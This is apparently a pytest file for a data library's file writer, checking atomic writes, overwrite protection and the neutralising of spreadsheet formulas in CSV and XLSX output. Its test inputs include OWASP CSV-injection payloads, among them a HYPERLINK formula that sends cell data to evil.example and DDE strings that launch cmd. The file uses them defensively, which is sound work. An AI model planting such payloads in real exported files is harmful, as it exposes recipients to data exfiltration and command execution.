"""The one writer keeps its promises, checked from the side of the person who relies on them:
the file read is never replaced, nothing existing is replaced without --force, a failed
write leaves everything as it was, a set of files appears together, and no cell a
spreadsheet would run as a formula is written as one."""

from __future__ import annotations

import csv
import os
import re
import zipfile

import pandas as pd
import pytest

import htcds_learn as hl
from htcds_learn import io
from htcds_learn._util import files
from htcds_learn.io.writers import OutputError
from tests._cli import run_cli

# Payloads from OWASP's CSV-injection page, and what a data officer's data really holds.
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A2,"Click")', "@SUM(1+1)",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=cmd|' /C notepad'!'A1'"]
HARMLESS = ["+234 803 555 0100", "+966469726359", "-12.5", "-", "Ana", "O'Brien", "'quoted",
            "2024-03-09", ""]


run = run_cli


def spreadsheet_would_run(cell: str) -> bool:
    """An independent statement of the rule: Excel and LibreOffice treat a CSV cell as a
    formula when it starts with one of these, unless it is only a signed number."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    return not (cell[0] in "+-" and re.fullmatch(r"[+-][\d .,()/+-]*", cell))


def test_no_cell_of_a_written_csv_would_run_and_reading_gives_the_values_back(tmp_path):
    table = pd.DataFrame({"prs_FirstName": FORMULAS + HARMLESS[:1],
                          "prs_MobilePhone": (HARMLESS * 2)[:len(FORMULAS) + 1]})
    written = io.write_csv(table, tmp_path / "out.csv")
    assert written.neutralised == len(FORMULAS)
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if spreadsheet_would_run(c)] == []
    assert "+234 803 555 0100" in cells and "-12.5" in cells  # phone numbers kept as typed
    back = io.read_csv(tmp_path / "out.csv")
    assert back.table["prs_FirstName"].tolist() == table["prs_FirstName"].tolist()
    assert any("read without it" in note for note in back.notes)


def test_the_template_writes_text_never_a_live_formula(tmp_path):
    core = hl.generate_core(3, seed=2)
    core.loc[0, "prs_FirstName"] = FORMULAS[1]
    core.loc[1, "prs_SecondName"] = "=1+1"
    path = io.write_template(core, tmp_path / "partner.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # a live formula is stored in <f>
    assert io.read_table(path).table.loc[0, "prs_FirstName"] == FORMULAS[1]


def test_a_dataset_in_xlsx_types_formula_like_text_as_text(tmp_path, monkeypatch):
    from htcds_learn.synth import CaseGenerator, dataset

    original = CaseGenerator.tables

    def with_formula(self, *args, **kwargs):
        tables = original(self, *args, **kwargs)
        tables["core"].loc[0, "prs_FirstName"] = "=1+1"
        return tables

    monkeypatch.setattr(CaseGenerator, "tables", with_formula)
    meta = dataset.write_dataset(tmp_path, 3, seed=1, fmt="xlsx")
    assert meta["formula_like_cells_written_as_text"] == 1
    with zipfile.ZipFile(tmp_path / "cases.xlsx") as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
    assert not any("<f>" in sheet for sheet in sheets)


@pytest.mark.parametrize("how", ["same name", "relative name", "symbolic link", "hard link"])
def test_never_over_the_file_being_read_even_with_force(tmp_path, monkeypatch, how):
    source = tmp_path / "cases.csv"
    source.write_text("prs_Gender\nFeminine\n")
    target = {"same name": source, "relative name": "cases.csv",
              "symbolic link": tmp_path / "link.csv", "hard link": tmp_path / "hard.csv"}[how]
    if how == "symbolic link":
        os.symlink(source, target)
    if how == "hard link":
        os.link(source, target)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(OutputError, match="this is the file being read"):
        io.write_csv(pd.DataFrame({"a": [1]}), target, inputs=[source], force=True)
    assert source.read_text() == "prs_Gender\nFeminine\n"


def test_an_existing_file_is_replaced_only_with_force(tmp_path):
    target = tmp_path / "report.csv"
    target.write_text("mine\n")
    with pytest.raises(OutputError, match="already exists.*--force"):
        io.write_text("new\n", target)
    assert target.read_text() == "mine\n"
    io.write_text("new\n", target, force=True)
    assert target.read_text() == "new\n"


def test_a_failed_write_leaves_the_old_file_and_no_litter(tmp_path):
    target = tmp_path / "report.csv"
    target.write_text("mine\n")

    def broken(temporary):
        temporary.write_text("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        io.writers.write_with(target, broken, force=True)
    assert target.read_text() == "mine\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


def test_a_set_of_files_appears_whole_or_not_at_all(tmp_path):
    out = tmp_path / "release"

    def fails(temporary):
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        io.write_files(out, {"release-report.md": "# Report\n", "shared.csv": fails})
    assert not out.exists() and list(tmp_path.iterdir()) == []  # nothing, not even a folder
    written = io.write_files(out, {"release-report.md": "# Report\n",
                                   "shared.csv": pd.DataFrame({"a": ["=1"]})})
    assert sorted(p.name for p in out.iterdir()) == ["release-report.md", "shared.csv"]
    assert [w.neutralised for w in written] == [0, 1]


def test_a_set_into_a_folder_keeps_other_files_and_rolls_back_on_failure(tmp_path,
                                                                         monkeypatch):
    out = tmp_path / "release"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    (out / "shared.csv").write_text("old data\n")
    (out / "release-report.md").write_text("old report\n")
    with pytest.raises(OutputError, match="already exists"):
        io.write_files(out, {"release-report.md": "new\n", "shared.csv": "new\n"})
    real_place = files._place
    calls = []

    def place_then_fail(source, target, overwrite):
        calls.append(target.name)
        if len(calls) == 2:
            raise OSError(5, "Input/output error")  # the second move fails
        real_place(source, target, overwrite)

    monkeypatch.setattr(files, "_place", place_then_fail)
    with pytest.raises(OSError):
        io.write_files(out, {"release-report.md": "new\n", "shared.csv": "new\n"}, force=True)
    assert {p.name: p.read_text() for p in out.iterdir()} == {
        "notes.txt": "mine", "shared.csv": "old data\n", "release-report.md": "old report\n"}
    monkeypatch.setattr(files, "_place", real_place)
    io.write_files(out, {"release-report.md": "new\n", "shared.csv": "new\n"}, force=True)
    assert {p.name: p.read_text() for p in out.iterdir()} == {
        "notes.txt": "mine", "shared.csv": "new\n", "release-report.md": "new\n"}


def test_without_overwrite_a_file_that_appears_meanwhile_is_not_replaced(tmp_path):
    target = tmp_path / "late.csv"

    def write(temporary):
        temporary.write_text("ours")
        target.write_text("someone else's")  # appears between the check and the rename

    with pytest.raises(FileExistsError):
        files.write_atomically(target, write, overwrite=False)
    assert target.read_text() == "someone else's"


def test_validate_never_writes_over_its_input_and_says_so(tmp_path):
    source = tmp_path / "cases.csv"
    hl.generate_core(5, seed=1).to_csv(source, index=False)
    before = source.read_bytes()
    for option in ("--fix", "--report"):
        result = run("validate", str(source), option, str(source), "--force")
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert result.stderr.startswith(f"Error: {source}: this is the file being read")
        assert source.read_bytes() == before
    both = tmp_path / "out.csv"
    result = run("validate", str(source), "--fix", str(both), "--report", str(both))
    assert result.returncode == 2 and "is named for two outputs" in result.stderr
    assert not both.exists()


def test_validate_replaces_its_outputs_only_with_force(tmp_path):
    source = tmp_path / "cases.csv"
    core = hl.generate_core(5, seed=1)
    core.loc[0, "prs_FirstName"] = "=1+1"
    core.to_csv(source, index=False)
    fixed, report = tmp_path / "fixed.csv", tmp_path / "report.csv"
    fixed.write_text("keep me\n")
    result = run("validate", str(source), "--fix", str(fixed), "--report", str(report))
    assert result.returncode == 2 and "already exists" in result.stderr
    assert fixed.read_text() == "keep me\n" and not report.exists()
    result = run("validate", str(source), "--fix", str(fixed), "--force")
    assert result.returncode == 0, result.stderr
    assert "1 cells in" in result.stdout and "apostrophe" in result.stdout
    assert "'=1+1" in fixed.read_text()
    assert run("validate", str(fixed)).returncode == 0  # reads back what it wrote


def test_generate_replaces_an_earlier_dataset_only_with_force(tmp_path):
    out = tmp_path / "data"
    args = ["generate", "--cases", "3", "--out", str(out), "--no-progress"]
    assert run(*args).returncode == 0
    before = (out / "core.csv").read_bytes()
    result = run(*args, "--seed", "5")
    assert result.returncode == 2
    assert result.stderr.startswith(f"Error: {out}{os.sep}") and "already exists" in result.stderr
    assert (out / "core.csv").read_bytes() == before
    assert run(*args, "--seed", "5", "--force").returncode == 0
    assert (out / "core.csv").read_bytes() != before


def test_a_release_is_formula_safe_and_its_report_says_so(tmp_path):
    """share writes by the writer's rule: a formula becomes text, a phone number stays as
    typed, and the release report tells the recipient what changed."""
    table = hl.generate_core(60, seed=3)
    table["con_Consent"], table["con_ConsentToRefer"] = True, True
    table.loc[0, ["prs_FirstName", "cas_ReferredOrganisation"]] = [
        '=HYPERLINK("http://x")', "Shelter X"]
    folder = hl.share(table, purpose="referral", recipient="Shelter X").write(tmp_path / "r")
    shared = pd.read_csv(folder / "referral.csv", dtype=str)
    assert shared["prs_FirstName"].tolist() == ["'=HYPERLINK(\"http://x\")"]
    assert shared["prs_MobilePhone"].iloc[0] == table.loc[0, "prs_MobilePhone"]
    assert "1 cells in referral.csv began with =, +, -, @" in (
        folder / "release-report.md").read_text()
